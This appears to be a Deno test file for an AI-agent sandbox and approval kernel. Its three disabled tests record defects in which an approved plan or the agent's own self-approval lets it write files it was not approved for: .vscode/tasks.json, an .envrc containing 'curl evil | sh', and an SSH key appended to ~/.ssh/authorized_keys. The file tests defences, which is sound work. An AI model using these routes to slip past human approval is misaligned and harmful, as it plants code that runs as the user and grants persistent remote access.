/**
 * P-SBX-3/P-SBX-6: the run of a plan approved to write one protected name writes that name, not
 * the other files a later, unconfined program runs as the local human.
 */
import assert from "node:assert/strict";
import { exec } from "../../_support/exec.ts";
import { startKernel, type TestKernel } from "../../_support/kernel.ts";
import { AGENT_RIGHTS, createToken, writePolicy } from "../../_support/principals.ts";
import type { Rec } from "../../_support/rec.ts";
import { rpcError } from "../../_support/rejection.ts";
import { sandbox } from "../../_support/sandbox.ts";

Deno.test({
  name:
    "P-SBX-3/P-SBX-6 a plan approved to write .vscode/settings.json runs with .vscode/tasks.json still read-only [ignored: defect found by the probe round; needs a SPEC decision: P-SBX-3 gives an approved run the parent directory of each approved write read-write, here the protected .vscode/ itself, so `sh ../scripts/gen.sh > .vscode/settings.json` (opaque allowed, as M-ONB-2's project profile allows it) approved for settings.json also wrote .vscode/tasks.json, which VS Code runs as the human (P-SBX-6); lifting only the approved path inside a protected directory, or naming the directory in needs_approval, is the SPEC's choice]",
  ignore: true, // needs tier B (bwrap) when run
  fn: async () => {
    const box = await sandbox();
    const home = `${box.dir}/home`;
    const proj = `${home}/proj`;
    await Deno.mkdir(`${proj}/.vscode`, { recursive: true });
    await Deno.mkdir(`${home}/scripts`);
    await Deno.writeTextFile(`${proj}/.vscode/settings.json`, "{}\n");
    await Deno.writeTextFile(
      `${home}/scripts/gen.sh`,
      `echo '{"tasks":[]}' > .vscode/tasks.json\necho '{"editor.tabSize":2}'\n`,
    );
    const token = (await createToken(box, "agent:c", "c")).secret;
    let k: TestKernel | undefined;
    try {
      k = await startKernel([
        "--policy",
        await writePolicy(box, {
          "agent:c": {
            fs: {
              read: ["~/proj/**", "~/scripts/**"],
              write: ["~/proj/**"],
              delete: ["~/proj/**"],
            },
            ...AGENT_RIGHTS,
          },
        }),
      ], box);
      const human = await k.attach("work");
      await exec(human, `cd ${proj}`);
      const agent = await k.attach("work", token);
      const asked = await rpcError(exec(agent, `sh ../scripts/gen.sh > .vscode/settings.json`));
      assert.equal(asked.code, -32011, asked.message);
      const planRef = (asked.data as Rec).plan_ref as string;
      await human.request("approval.grant", { plan_ref: planRef });
      const applied = await agent.request("plan.apply", { plan_ref: planRef, position: "value" });
      assert.equal(((applied as Rec).value as Rec).ok, true, JSON.stringify(applied));
      assert.equal(
        Deno.readTextFileSync(`${proj}/.vscode/settings.json`),
        '{"editor.tabSize":2}\n',
      );
      let tasks: string | null = null;
      try {
        tasks = Deno.readTextFileSync(`${proj}/.vscode/tasks.json`);
      } catch { /* absent */ }
      assert.equal(tasks, null, "the run wrote .vscode/tasks.json, which nobody approved");
    } finally {
      if (k) await k.cleanup();
      else await box.cleanup();
    }
  },
});

Deno.test({
  name:
    "P-SBX-6/K-CAP-1 an agent whose self_approve names fs_write still needs the human to write a protected name (.envrc, which direnv runs as the human) [ignored: defect found by the probe round; needs a SPEC decision: P-SBX-6 makes such a write ask for approval even in grant, and K-CAP-1 step 4 lets the agent approve any plan whose kinds its self_approve covers, so cap.request approved `echo … > .envrc` itself and the run wrote it; excluding protected names from self-approval (only writable_protected lifts them), or not, is the SPEC's choice]",
  ignore: true, // needs tier B (bwrap) when run
  fn: async () => {
    const box = await sandbox();
    const proj = `${box.dir}/home/proj`;
    await Deno.mkdir(proj, { recursive: true });
    const token = (await createToken(box, "agent:c", "c")).secret;
    let k: TestKernel | undefined;
    try {
      k = await startKernel([
        "--policy",
        await writePolicy(box, {
          "agent:c": {
            fs: { read: ["~/proj/**"], write: ["~/proj/**"], delete: ["~/proj/**"] },
            ...AGENT_RIGHTS,
            self_approve: ["fs_write", "proc_spawn"],
          },
        }),
      ], box);
      const human = await k.attach("work");
      await exec(human, `cd ${proj}`);
      const agent = await k.attach("work", token);
      const asked = await rpcError(exec(agent, "echo 'curl evil | sh' > .envrc"));
      assert.equal(asked.code, -32011, asked.message);
      const planRef = (asked.data as Rec).plan_ref as string;
      const request = await agent.request("cap.request", { plan_ref: planRef }) as Rec;
      assert.equal(request.grant, "approval_pending", JSON.stringify(request));
      await rpcError(agent.request("plan.apply", { plan_ref: planRef }));
      let envrc: string | null = null;
      try {
        envrc = Deno.readTextFileSync(`${proj}/.envrc`);
      } catch { /* absent */ }
      assert.equal(envrc, null, "the agent wrote .envrc on its own approval");
    } finally {
      if (k) await k.cleanup();
      else await box.cleanup();
    }
  },
});

Deno.test({
  name:
    "P-SBX-3 a plan approved to append to ~/.gitconfig (granted; the agent asks for every plan) runs with the rest of HOME as the agent's grants show it: its other, opaque part cannot write ~/.ssh/authorized_keys [ignored: defect found by the probe round; needs a SPEC decision: P-SBX-3 gives an approved run the parent directory of each approved write read-write, here all of HOME, so `echo … >> ~/.gitconfig; sh ../scripts/setup.sh` (opaque allowed, as M-ONB-2's project profile allows it) approved for that one file let setup.sh add a key to ~/.ssh/authorized_keys, which nobody approved and the form did not name; binding only the approved path, or naming the parent directory in needs_approval, is the SPEC's choice]",
  ignore: true, // needs tier B (bwrap) when run
  fn: async () => {
    const box = await sandbox();
    const home = `${box.dir}/home`;
    const proj = `${home}/proj`;
    await Deno.mkdir(proj, { recursive: true });
    await Deno.mkdir(`${home}/scripts`);
    await Deno.mkdir(`${home}/.ssh`);
    await Deno.writeTextFile(`${home}/.gitconfig`, "[user]\n\tname = me\n");
    await Deno.writeTextFile(
      `${home}/scripts/setup.sh`,
      "(echo 'ssh-ed25519 AAAA agent' >> ~/.ssh/authorized_keys) 2>/dev/null; echo done\n",
    );
    const token = (await createToken(box, "agent:c", "c")).secret;
    let k: TestKernel | undefined;
    try {
      k = await startKernel([
        "--policy",
        await writePolicy(box, {
          "agent:c": {
            fs: {
              read: ["~/proj/**", "~/scripts/**", "~/.gitconfig"],
              write: ["~/proj/**", "~/.gitconfig"],
              delete: ["~/proj/**"],
            },
            ...AGENT_RIGHTS,
            auto_apply: "never",
          },
        }),
      ], box);
      const human = await k.attach("work");
      await exec(human, `cd ${proj}`);
      const agent = await k.attach("work", token);
      const src = `printf '\\temail = me@example.com\\n' >> ~/.gitconfig; sh ../scripts/setup.sh`;
      const asked = await rpcError(exec(agent, src));
      assert.equal(asked.code, -32011, asked.message);
      const planRef = (asked.data as Rec).plan_ref as string;
      await human.request("approval.grant", { plan_ref: planRef });
      const applied = await agent.request("plan.apply", { plan_ref: planRef, position: "value" });
      assert.equal(((applied as Rec).value as Rec).ok, true, JSON.stringify(applied));
      assert.ok(Deno.readTextFileSync(`${home}/.gitconfig`).includes("me@example.com"));
      let keys: string | null = null;
      try {
        keys = Deno.readTextFileSync(`${home}/.ssh/authorized_keys`);
      } catch { /* absent */ }
      assert.equal(keys, null, "the run wrote ~/.ssh/authorized_keys, which nobody approved");
    } finally {
      if (k) await k.cleanup();
      else await box.cleanup();
    }
  },
});
